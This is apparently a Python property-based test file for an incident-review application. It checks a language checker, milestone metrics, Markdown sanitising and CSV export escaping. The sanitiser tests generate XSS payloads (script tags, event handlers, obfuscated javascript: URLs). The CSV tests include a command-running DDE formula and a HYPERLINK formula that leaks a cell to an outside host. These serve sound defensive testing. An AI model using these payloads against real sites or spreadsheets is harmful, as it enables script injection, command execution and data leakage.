"""Properties of the parts that parse or compute, over generated input.

The language check, the metrics from milestones in any order, Markdown sanitising
and the CSV export's formula escaping. Each property runs a fixed number of
examples from a fixed seed (``derandomize``), so a run is repeatable.
"""

import csv
import io
import time
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from django.core.exceptions import ValidationError
from django.db import transaction
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.durations import format_duration
from core.markdown import render_markdown
from insights import figures as insights
from insights import snapshot
from reviews import services
from reviews.language import check
from reviews.metrics import incident_metrics
from reviews.models import CORE_ROLES
from reviews.models import OwnershipRole as R
from tests.factories import make_review

FIXED = {"derandomize": True, "deadline": None, "database": None}

# Text as people paste it: any printable or control character, no surrogates.
any_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=400)
stored_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"], exclude_characters="\x00"))


# The language check ---------------------------------------------------------------------------

NAMES = ["Sam", "Priya Raman", "O'Brien", "A.J."]
FRAGMENTS = st.sampled_from(
    ["Sam", "Sam's", "should have", "failed to", "fault", "blame", "careless", "human error", "'s", "’s", " ", ",", "."]
)


@settings(max_examples=200, **FIXED)
@given(any_text, st.lists(st.text(max_size=15), max_size=5))
def test_language_check_never_raises_and_its_hits_point_into_the_text(text, names):
    hits = check(text, names)
    for hit in hits:
        assert 0 <= hit.start < hit.end <= len(text)
        assert text[hit.start : hit.end] == hit.phrase
        assert hit.message and hit.suggestion


@settings(max_examples=25, **FIXED)
@given(st.lists(FRAGMENTS | st.text(max_size=6), min_size=1, max_size=30).map(" ".join))
def test_language_check_time_grows_linearly_with_the_text(unit):
    """Repeating a generated text 32 times more costs about 32 times as much, never the square of it."""
    small = unit * 100
    large = unit * 3_200

    def fastest_of_three(text):
        # A busy machine or a collector pause only ever adds time: the fastest run is the cost.
        times = []
        for _ in range(3):
            started = time.perf_counter()
            check(text, NAMES)
            times.append(time.perf_counter() - started)
        return min(times)

    small_time = fastest_of_three(small)
    large_time = fastest_of_three(large)
    # 32 times the text: linear is ~32 times the time; quadratic would be ~1000 times. Allow noise and a floor.
    assert large_time < max(small_time, 0.002) * 32 * 4 + 0.5, (len(large), small_time, large_time)


# Metrics from milestones in any order ---------------------------------------------------------

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
offsets = st.none() | st.integers(min_value=-60 * 24 * 30, max_value=60 * 24 * 30).map(
    lambda m: T0 + timedelta(minutes=m)
)
MILESTONES = ("acknowledged_at", "first_customer_update_at", "resolved_at")


@settings(max_examples=300, **FIXED)
@given(
    st.fixed_dictionaries(dict.fromkeys(MILESTONES, offsets)),
    st.none() | st.integers(min_value=-3, max_value=8),
    st.lists(st.tuples(st.sampled_from(list(R)), offsets.filter(bool)), max_size=12),
)
def test_metrics_from_milestones_in_any_order(milestones, satisfaction, assignments):
    incident = SimpleNamespace(escalated_at=T0, satisfaction=satisfaction, **milestones)
    metrics = {m.key: m for m in incident_metrics(incident, assignments)}
    for key in ("time_to_ownership", "time_to_first_update", "time_to_resolution"):
        value = metrics[key].value
        assert value is None or value >= timedelta(0)
        assert format_duration(value)
        assert (value is None) == bool(metrics[key].missing)
    update, resolved = milestones["first_customer_update_at"], milestones["resolved_at"]
    if update is not None:
        assert metrics["time_to_first_update"].value == max(update - T0, timedelta(0))
    if resolved is not None:
        assert metrics["time_to_resolution"].value == max(resolved - T0, timedelta(0))
    held = {role for role, _ in assignments if role in CORE_ROLES}
    assert (metrics["time_to_ownership"].value is None) == (len(held) < len(CORE_ROLES))

    # The service's check decides which orders may be saved; it answers with field errors, nothing else.
    values = {"escalated_at": T0, "satisfaction": satisfaction, **milestones}
    try:
        services.validate_milestones(values)
    except ValidationError as error:
        assert set(error.message_dict) <= {"escalated_at", "satisfaction", *MILESTONES}
    else:
        assert all(moment is None or moment >= T0 for moment in milestones.values())
        assert update is None or resolved is None or update <= resolved
        assert metrics["time_to_first_update"].value in (None, update - T0 if update else None)


@pytest.mark.django_db
@settings(max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture], **FIXED)
@given(st.fixed_dictionaries(dict.fromkeys(("escalated_at", *MILESTONES), offsets)))
def test_the_api_saves_a_possible_order_and_refuses_an_impossible_one_keeping_the_saved_one(
    client, facilitator, milestones
):
    with transaction.atomic():
        review = make_review(facilitator, escalated_at=T0)
        incident = review.incident
        client.force_login(facilitator)
        body = {key: value.isoformat() if value else None for key, value in milestones.items()}
        if body["escalated_at"] is None:
            del body["escalated_at"]  # a required milestone: leave it out rather than clear it
        response = client.patch(
            f"/api/incidents/{incident.pk}/", body | {"version": incident.version}, content_type="application/json"
        )
        assert response.status_code in (200, 400), response.content
        incident.refresh_from_db()
        if response.status_code == 400:
            assert set(response.json()) <= {"escalated_at", *MILESTONES}
            assert incident.escalated_at == T0 and incident.version == 1
            assert all(getattr(incident, name) is None for name in MILESTONES)
        else:
            for name, moment in milestones.items():
                if moment is not None or name != "escalated_at":
                    assert getattr(incident, name) == moment
        transaction.set_rollback(True)


# Markdown sanitising --------------------------------------------------------------------------

SCHEMES = st.sampled_from(
    [
        "javascript:",
        "JavaScript:",
        " javascript:",
        "java\tscript:",
        "jav&#x61;script:",
        "&#106;avascript:",
        "vbscript:",
        "data:text/html,",
        "javascript&colon;",
    ]
)
DANGEROUS = st.one_of(
    st.builds("<script>{}</script>".format, any_text),
    st.builds('<img src=x onerror="{}">'.format, any_text),
    st.builds("<a href='{}alert(1)'>x</a>".format, SCHEMES),
    st.builds("[link]({}alert(1))".format, SCHEMES),
    st.builds("![img]({}alert(1))".format, SCHEMES),
    st.builds('<div onmouseover="{}">x</div>'.format, any_text),
    st.builds("<svg><{} onload=alert(1)>".format, st.sampled_from(["svg", "animate", "set"])),
    st.builds('<iframe src="{}alert(1)"></iframe>'.format, SCHEMES),
    st.builds("<style>{}</style>".format, any_text),
    st.builds('<p style="x" onclick="{}">'.format, any_text),
    st.builds('<a href="{}" title="x" onfocus=alert(1) autofocus>x</a>'.format, any_text),
)
markdown_with_attacks = st.lists(DANGEROUS | any_text, min_size=1, max_size=6).map("\n".join)


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


@settings(max_examples=300, **FIXED)
@given(markdown_with_attacks)
def test_markdown_never_lets_scripts_event_handlers_or_javascript_urls_through(text):
    html = str(render_markdown(text))
    parser = _Tags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in {"script", "style", "iframe", "svg", "img", "object", "embed", "form", "input"}, html
        for name, value in attrs:
            assert not name.lower().startswith("on"), html
            assert name.lower() not in {"style", "src", "srcdoc", "formaction"}, html
            if name.lower() == "href" and value:
                # What a browser follows (WHATWG URL parsing): entities decoded (by the parser), leading and
                # trailing controls and spaces stripped, tabs and newlines removed anywhere.
                url = "".join(ch for ch in value.strip("".join(map(chr, range(33)))) if ch not in "\t\n\r").lower()
                assert not url.startswith(("javascript:", "vbscript:", "data:")), html


# The CSV export -------------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
cells = st.one_of(
    stored_text,
    st.builds("{}{}".format, st.sampled_from(FORMULA_STARTS), stored_text),
    st.just("=cmd|' /C calc'!A0"),
    st.just('=HYPERLINK("http://example.com?x="&A1, "click")'),
)


@settings(max_examples=500, **FIXED)
@given(st.lists(cells, min_size=1, max_size=8))
def test_csv_cells_never_start_a_formula_and_round_trip(values):
    row = [snapshot._cell(value) for value in values]
    for original, cell in zip(values, row, strict=True):
        assert not str(cell).startswith(FORMULA_STARTS)
        assert cell == ("'" + original if original.startswith(FORMULA_STARTS) else original)
    buffer = io.StringIO()
    csv.writer(buffer).writerow(row)
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == row


@pytest.mark.django_db
@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture], **FIXED)
@given(
    title=cells.filter(lambda s: s.strip() and len(s) <= 200),
    customer=cells.filter(lambda s: s.strip() and len(s) <= 200),
)
def test_the_incidents_export_escapes_what_people_typed(facilitator, title, customer):
    with transaction.atomic():
        review = make_review(facilitator, title=title, customer=customer)
        review.incident.refresh_from_db()
        period = insights.Period.containing(review.incident.escalated_at.date())
        rows = list(
            csv.reader(io.StringIO("".join(snapshot.incident_rows_csv(period, viewer=facilitator)), newline=""))
        )
        header, row = rows[0], rows[1]
        for name in ("title", "customer"):
            saved = getattr(review.incident, name)
            cell = row[header.index(name)]
            assert not cell.startswith(FORMULA_STARTS)
            assert cell == ("'" + saved if saved.startswith(FORMULA_STARTS) else saved)
        transaction.set_rollback(True)
